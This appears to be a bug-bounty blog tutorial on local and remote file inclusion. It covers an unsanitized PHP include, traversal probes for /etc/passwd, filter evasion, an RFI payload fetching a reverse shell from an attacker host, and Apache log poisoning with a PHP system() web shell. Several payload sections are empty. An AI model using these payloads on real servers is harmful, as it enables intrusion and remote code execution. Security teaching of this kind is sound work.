Explaining vulnerabilities : File inclusion {Bug bounties}

Falken Smaze
3 min readNov 25, 2022


File inclusion vulnerabilities are part of the OWASP top ten. In this article, I’ll explain what they are,how to find them, how to exploit them and how to leverage these types of vulnerabilities, into something more critical (RCE)

What are file inclusion vulnerabilities?

Take this snippet of PHP code for instance:

$file = $_GET['file'];What is wrong with it you may ask?

The input is NOT sanitized, meaning , the user can enter here ANY directory from the local web server, such as the common file “/etc/passwd” which exists on every Unix-based system, and in the end , accessing sensitive data from the server.

Types of file inclusion vulnerabilities

Local File Inclusion (LFI) :

-> This allows an attacker to view local files

-> More common on web applications

-> More difficult to exploit

Remote File Inclusion (RFI):

-> This allows an attacker to view remote files (files from other servers)-> Less common on web applications.

-> Easier to exploit

Find file inclusion vulnerabilities

  • If you already have your own methodology of investigating and doing recon on a website, then you can skip this, however, if you don’t , then I really recommend you check out this article before we get started.
  • Now that you have a methodology to begin with, after you’ve gone through the entire web app and all of its functions , start searching through requests and responses for parameters such as :



Verifying the vulnerabilitie(s) :

  • If you’ve done your recon properly, you should have a grasp idea of what the operating system that’s running the web server is . Here are some payloads for mostly all of the systems you’ll be encountering
  • Linux : /etc/passwd
  • Windows : %WINDIR%\win.ini
  • MacOS : /etc/fstab

-> If it’s a Linux system, then you can also try to insert a lot of “../../../../”. This is done to escape thecurrent running directory, since most webservers will probably run from var/www/html directory.

-> If it’s a Windows computer however, just add like this : “..\..\..\..\”

Bypassing “security” mechanisms

Filter evasion

  • Try encoding your payloads: Double HTML encoding, UTF-8 encoding, Null Byte termination

Tricky payloads for poorly written detection mechanisms :


For RFI (Remote file inclusion ) :

Getting reverse shell to your listener

-> ?link=http://attacker-website/reverse-shell.php

Accessing services such as SMB shares :

-> ?resource=\\IP\SHARE\cmd.php

Poppin’ shells with RFIs:

Poppin’ shells with LFIs :

Exploiting Apache log files:

In case there is Apache running on the server, we can use this to our advantage and get inside the server using something called Log poisoning

  • Access /var/log/apache2/access.log to verify! (enter this path inside the vulnerable parameter)
  • Now send a request similar to this :

-> https://legit-company.com/?parameter=<?php system($_GET[‘c’]);?>

Recommended tools :

  • LFISuite
  • FIMap
  • Liffy
  • kadimus

I hope you’ve enjoyed this article and have found it useful. If you wish to see more contentpublished in the “Explaining vulnerabilities”series, make sure to follow me!